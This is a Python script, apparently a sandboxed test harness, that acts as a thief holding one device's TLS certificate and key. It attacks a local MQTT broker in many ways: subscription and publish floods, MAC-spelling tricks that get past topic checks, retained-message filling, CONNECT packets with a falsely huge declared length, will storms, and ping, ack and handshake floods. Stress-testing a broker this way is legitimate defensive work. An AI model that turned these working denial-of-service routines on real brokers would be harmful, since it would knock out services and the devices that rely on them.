"""Whoever has one device's certificate and key, at the broker.

usage: thief_mqtt.py CREDENTIALS RATE ATTACK ARGUMENT...

CREDENTIALS.crt and .key, whose name is the MAC. Sends RATE bytes a second at most, as its network would
allow (0: no limit), and connects again whenever the broker parts with it, 20 times a second at most.
Prints "ready" when the attack is under way (for what fills up: when all of it was sent, or refused), goes
on until the standard input ends, and then prints what came of it as JSON. ATTACK:

  subscribe COUNT LEVELS  so many filters of so many levels, in a session that stays
  spell COUNT             its commands in each spelling of its MAC, in a session that stays
  flood KIND QOS SIZE     statuses, events or wills (KIND: its first level) without a pause
  denied QOS SIZE         the same, as another device
  retained SIZE           a retained message at each topic of its own, in each spelling of its MAC
  unreleased COUNT SIZE   messages of QoS 2 whose second half never comes
  big SIZE                messages of so many bytes
  endless COUNT SIZE      CONNECTs that say that they have 268435455 bytes, of which SIZE come
  wills COUNT SIZE        so many connections with such a will, all lost at once, again and again
  resubscribe             SUBSCRIBE and UNSUBSCRIBE without a pause
  pings                   PINGREQ without a pause
  acks                    PUBACK, PUBREC, PUBREL and PUBCOMP of nothing, without a pause
  connect                 connects without a pause
  handshakes              the same, but says nothing after the handshake"""

import itertools
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

import mqtt_packet

CHUNK = 32768
PAUSE_S = 0.05


def stopped():
    return bool(select.select([sys.stdin], [], [], 0)[0])


def spellings(mac):
    """Each that mac_parse() takes: letters of either case, without or with : or -."""
    cases = itertools.product(*({c, c.upper()} for c in mac))
    for letters in cases:
        plain = "".join(letters)
        pairs = [plain[i:i + 2] for i in range(0, 12, 2)]
        yield from (plain, ":".join(pairs), "-".join(pairs))


class Thief:
    def __init__(self, credentials, rate):
        self.mac = os.path.basename(credentials)
        self.rate = rate
        self.port = int(os.environ["SANDBOX_MQTT_PORT"])
        self.context = ssl.create_default_context(cafile=os.environ["SANDBOX_PKI"] + "/ca.crt")
        self.context.load_cert_chain(credentials + ".crt", credentials + ".key")
        self.counts = {"bytes": 0, "connections": 0, "refused": 0, "lost": 0, "granted": 0, "denied": 0,
                       "acknowledged": 0}
        self.began = time.monotonic()
        self.link = None
        self.rest = b""
        self.ready = False

    def tell_ready(self):
        if not self.ready:
            self.ready = True
            print("ready", flush=True)

    def tls(self):
        plain = socket.create_connection(("localhost", self.port), timeout=10)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.counts["connections"] += 1
        try:
            return self.context.wrap_socket(plain, server_hostname="localhost")
        except OSError:
            plain.close()
            raise

    def connect(self, **options):
        """A connection of its own, or None when it was refused."""
        try:
            link = self.tls()
            link.sendall(mqtt_packet.connect(options.pop("client", self.mac), **options))
            answer = link.recv(4)
        except OSError:
            answer = b""
        if len(answer) == 4 and answer[3] == 0:
            return link
        self.counts["refused"] += 1
        return None

    def connected(self, **options):
        """Whether there is a connection, after one attempt if there was none."""
        if self.link is None:
            self.link = self.connect(**options)
            self.rest = b""
        if self.link is None:
            time.sleep(PAUSE_S)
        return self.link is not None

    def lose(self):
        self.counts["lost"] += 1
        self.link.close()
        self.link = None
        time.sleep(PAUSE_S)

    def pace(self, n):
        self.counts["bytes"] += n
        if self.rate > 0:
            time.sleep(max(0, self.counts["bytes"] / self.rate - (time.monotonic() - self.began)))

    def send(self, data):
        """Sends it and reads what has come; False if the connection is gone."""
        try:
            self.pace(len(data))
            self.link.settimeout(20)
            self.link.sendall(data)
            self.drain(0)
            return True
        except OSError:
            self.lose()
            return False

    def drain(self, wait_s):
        while select.select([self.link], [], [], wait_s)[0] or self.link.pending():
            piece = self.link.recv(65536)
            if not piece:
                raise ConnectionError("closed")
            self.count(piece)

    def count(self, piece):
        data = self.rest + piece
        while len(data) >= 2:
            length, at, shift = 0, 1, 0
            while at < len(data):
                digit = data[at]
                length |= (digit & 127) << shift
                at, shift = at + 1, shift + 7
                if digit < 128:
                    break
            else:
                break
            if len(data) < at + length:
                break
            body = data[at:at + length]
            if data[0] >> 4 == mqtt_packet.SUBACK:
                denied = sum(code >= 0x80 for code in body[2:])
                self.counts["denied"] += denied
                self.counts["granted"] += len(body) - 2 - denied
            elif data[0] >> 4 == mqtt_packet.PUBACK:
                self.counts["acknowledged"] += 1
            data = data[at + length:]
        self.rest = data

    def hold(self):
        """Stays connected, and comes again, until it is to stop."""
        self.tell_ready()
        while not stopped():
            if self.link is not None:
                if self.send(mqtt_packet.PINGREQ):
                    time.sleep(0.5)
            else:
                self.connected(clean=False)

    def repeat(self, chunks):
        """Sends one after the other, from the first again after the last."""
        for chunk in itertools.cycle(chunks):
            while not stopped() and not self.connected():
                self.tell_ready() if self.counts["lost"] else None
            if stopped():
                return
            self.send(chunk)
            self.tell_ready()

    def fill(self, packets):
        """Sends each once, however often it loses the connection: as long as it is let in at all."""
        for packet in packets:
            while not stopped():
                if self.counts["refused"] > 20:
                    return
                if self.connected(clean=False) and self.send(packet):
                    break
                if self.counts["lost"] > 200:
                    return
        try:
            while self.link is not None:
                self.link.settimeout(20)
                before = dict(self.counts)
                self.drain(1)
                if before == self.counts:
                    return
        except OSError:
            self.lose()

    # --- attacks

    def subscribe(self, count, levels):
        tail = "/a" * (int(levels) - 3)
        filters = [f"/command/{self.mac}/{i}{tail}" for i in range(int(count))]
        at_once = max(1, 15000 // len(filters[-1]))
        self.fill(mqtt_packet.subscribe(filters[i:i + at_once]) for i in range(0, len(filters), at_once))
        self.hold()

    def spell(self, count):
        filters = [f"/command/{mac}/{i}" for i in range(int(count)) for mac in spellings(self.mac)]
        self.fill(mqtt_packet.subscribe(filters[i:i + 200]) for i in range(0, len(filters), 200))
        self.hold()

    def message(self, kind, size):
        body = json.dumps({"event": "error", "result": "crashed", "uptimemillis": 5, "detail": ""})
        return f"/{kind}/{self.mac}", body[:-2] + "x" * max(0, int(size) - len(body)) + body[-2:]

    def flood(self, kind, qos, size):
        topic, body = self.message(kind, size)
        many = max(1, CHUNK // (len(body) + 20))
        numbers = itertools.cycle(range(1, 60001))
        self.repeat([b"".join(mqtt_packet.publish(topic, body, int(qos), next(numbers))
                              for _ in range(many)) for _ in range(50)])

    def denied(self, qos, size):
        self.mac, own = "84f3ebffffff", self.mac
        _, body = self.message("status", size)
        topic, self.mac = f"/status/{self.mac}", own
        many = max(1, CHUNK // (len(body) + 20))
        self.repeat([b"".join(mqtt_packet.publish(topic, body, int(qos), i + 1) for i in range(many))])

    def retained(self, size):
        topics = [f"/{kind}/{mac}{end}" for mac in spellings(self.mac)
                  for kind, end in (("status", ""), ("event", ""), ("will", ""), ("will", "/will"))]
        _, body = self.message("status", size)
        self.fill(mqtt_packet.publish(topic, body, 1, i % 65535 + 1, True)
                  for i, topic in enumerate(topics))
        self.hold()

    def unreleased(self, count, size):
        topic, body = self.message("event", size)
        self.fill(mqtt_packet.publish(topic, body, 2, i + 1) for i in range(int(count)))
        self.hold()

    def big(self, size):
        topic, _ = self.message("status", 0)
        self.repeat([mqtt_packet.publish(topic, b"x" * int(size))])

    def endless(self, count, size):
        links = []
        for _ in range(int(count)):
            try:
                link = self.tls()
                links.append(link)
                link.settimeout(20)
                link.sendall(b"\x10\xff\xff\xff\x7f" + mqtt_packet.text("MQTT") + b"\x04\x02\x00\x3c")
                for _ in range(0, int(size), CHUNK):
                    self.pace(CHUNK)
                    link.sendall(b"x" * CHUNK)
            except OSError:
                self.counts["lost"] += 1
        self.tell_ready()
        sys.stdin.read()

    def wills(self, count, size):
        will = (f"/will/{self.mac}", b"x" * int(size), False)
        while not stopped():
            links = []
            for i in range(int(count)):
                self.pace(int(size))
                links.append(self.connect(client=f"{self.mac}{i}", will=will))
            self.tell_ready()
            for link in filter(None, links):
                link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                link.close()
            time.sleep(PAUSE_S)

    def resubscribe(self):
        topic = f"/command/{self.mac}/#"
        pair = mqtt_packet.subscribe([topic]) + mqtt_packet.packet(
            0xA2, b"\x00\x01" + mqtt_packet.text(topic))
        self.repeat([pair * (CHUNK // len(pair))])

    def pings(self):
        self.repeat([mqtt_packet.PINGREQ * (CHUNK // 2)])

    def acks(self):
        kinds = (0x40, 0x50, 0x62, 0x70)
        self.repeat([b"".join(mqtt_packet.packet(kind, i.to_bytes(2, "big"))
                              for i in range(1, 2000) for kind in kinds)])

    def churn(self, connect):
        while not stopped():
            try:
                link = connect()
            except OSError:
                link = None
                self.counts["refused"] += 1
            self.tell_ready()
            if link is not None:
                link.close()
            time.sleep(PAUSE_S)

    def connect_again(self):
        self.churn(self.connect)

    def handshakes(self):
        self.churn(self.tls)


attacks = {"connect": Thief.connect_again} | {
    name: getattr(Thief, name) for name in (
        "subscribe", "spell", "flood", "denied", "retained", "unreleased", "big", "endless", "wills",
        "resubscribe", "pings", "acks", "handshakes")}


def main():
    os.nice(19)  # what it computes, it would compute elsewhere
    credentials, rate, attack = sys.argv[1:4]
    thief = Thief(credentials, int(rate))
    attacks[attack](thief, *sys.argv[4:])
    print(json.dumps(thief.counts), flush=True)


main()
